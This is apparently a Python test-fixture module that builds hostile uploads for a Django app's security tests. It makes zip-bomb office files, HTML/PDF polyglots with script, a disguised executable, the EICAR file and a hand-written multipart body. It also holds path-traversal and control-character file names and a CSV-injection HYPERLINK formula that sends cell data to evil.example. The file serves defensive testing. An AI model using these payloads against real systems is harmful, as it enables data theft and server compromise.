"""Builders of hostile uploads (issue #16), shared by every test that drives them through a page.

Each builder returns bytes; `HOSTILE_NAMES` are the raw file names an attacker puts in the
multipart header (a browser never sends them), so `multipart()` writes the request body by hand:
Django's test client would clean the name before it is sent.
"""

from __future__ import annotations

import functools
import io
import os
import zipfile

from .test_files import EICAR, make_docx, make_pdf, make_pe, make_xlsx

MB = 1024 * 1024

# The formula OWASP's CSV-injection guidance uses as its example; Excel runs it on opening.
FORMULA = '=HYPERLINK("http://evil.example/steal?x="&A1,"Bấm vào đây")'


def eicar() -> bytes:
    """The EICAR test file, byte for byte (clamd's test signature is its MD5)."""
    return EICAR


def executable() -> bytes:
    """A Windows executable (PE header), to be sent under a document's name."""
    return make_pe()


def polyglot_html_first() -> bytes:
    """A web page that PDF readers also open: the PDF header sits within its first 1024 bytes."""
    page = b"<!DOCTYPE html><html><body><script>fetch('/api/v1/')</script>\n"
    return page + make_pdf("polyglot")


def polyglot_pdf_first() -> bytes:
    """A well-formed PDF whose header region is also a web page with a script."""
    pdf = make_pdf("polyglot")
    header_end = pdf.index(b"\n", 9) + 1  # after "%PDF-1.4\n%âãÏÓ\n"
    script = b"%<html><body><script>alert(document.domain)</script></body></html>\n"
    # Inserted before the first object: the xref offsets move, so rebuild them.
    return _rebuilt(pdf[:header_end] + script + pdf[header_end:])


def _rebuilt(data: bytes) -> bytes:
    """Recompute the xref table and startxref of `make_pdf()` output after bytes were inserted."""
    body, _xref, _tail = data.partition(b"xref\n")
    offsets = []
    position = 0
    while True:
        found = body.find(b" 0 obj\n", position)
        if found < 0:
            break
        start = body.rfind(b"\n", 0, found) + 1
        offsets.append(start)
        position = found + 1
    out = bytearray(body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(offsets) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(offsets) + 1, xref)
    return bytes(out)


def truncated_pdf() -> bytes:
    """A real PDF cut in the middle (an interrupted upload): no xref, no trailer."""
    pdf = make_pdf("bi cat cut")
    return pdf[: len(pdf) // 2]


def malformed_pdf() -> bytes:
    """A PDF header followed by binary garbage, and a PDF whose xref keyword is broken."""
    return b"%PDF-1.7\n" + bytes(range(256)) * 8


def broken_xref_pdf() -> bytes:
    return make_pdf("xref hong").replace(b"xref", b"xreg")


def _with_zeros(base: bytes, member: str, megabytes: int) -> bytes:
    """`base` (a valid office file) plus one member of zeros: tiny on the wire, huge once unpacked."""
    buffer = io.BytesIO(base)
    info = zipfile.ZipInfo(member)
    info.compress_type = zipfile.ZIP_DEFLATED
    chunk = b"\0" * MB
    with zipfile.ZipFile(buffer, "a") as archive, archive.open(info, "w", force_zip64=True) as out:
        for _ in range(megabytes):
            out.write(chunk)
    return buffer.getvalue()


@functools.cache
def docx_bomb() -> bytes:
    # ~20 KB sent, 30 MB unpacked: refused by the expansion ratio (the 200 MB case is in test_security_17)
    return _with_zeros(make_docx(), "word/media/image1.bin", 30)


@functools.cache
def xlsx_bomb() -> bytes:
    return _with_zeros(make_xlsx(), "xl/media/image1.bin", 30)


def padded_pdf(size: int) -> bytes:
    """A valid PDF of exactly `size` bytes (a comment after %%EOF pads it)."""
    pdf = make_pdf("qua lon")
    return pdf + b"%" + b"x" * (size - len(pdf) - 2) + b"\n"


def padded_csv(size: int) -> bytes:
    head = "Tên,Số sê-ri\n".encode()
    row = "Máy tính,SN-1\n".encode()
    return head + row * ((size - len(head)) // len(row) + 1)


def formula_csv(header: list[str], row: list[str]) -> bytes:
    import csv

    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(header)
    writer.writerow(row)
    return out.getvalue().encode("utf-8-sig")


# Raw names as a crafted request carries them (Django's multipart parser strips folders and
# control characters and cuts names to 255 characters before any view sees them).
HOSTILE_NAMES = {
    "name_traversal": "../../../../../tmp/cqs-hostile-escape{ext}",
    "name_control_chars": "ho\x00so\x1b[31m\x07\u202efdp{ext}",
    "name_300_chars": "Tờ khai " + "đ" * 292 + "{ext}",
}


def multipart(fields: dict, files: dict[str, tuple[str, bytes]], boundary: str = "HostileBoundary7MA4YWxk"):
    """A multipart/form-data body written by hand, with the file names exactly as given.
    Returns (body, content_type) for `client.post(url, body, content_type=...)`."""
    lines: list[bytes] = []
    for key, value in fields.items():
        for item in value if isinstance(value, list | tuple) else [value]:
            lines += [
                b"--" + boundary.encode(),
                f'Content-Disposition: form-data; name="{key}"'.encode(),
                b"",
                str(item).encode(),
            ]
    for key, (name, data) in files.items():
        quoted = name.replace("\\", "\\\\").replace('"', '\\"')
        lines += [
            b"--" + boundary.encode(),
            f'Content-Disposition: form-data; name="{key}"; filename="{quoted}"'.encode(),
            b"Content-Type: application/octet-stream",
            b"",
            data,
        ]
    lines += [b"--" + boundary.encode() + b"--", b""]
    return b"\r\n".join(lines), f"multipart/form-data; boundary={boundary}"


def files_under(root) -> list[str]:
    return [os.path.join(d, f) for d, _dirs, names in os.walk(root) for f in names]
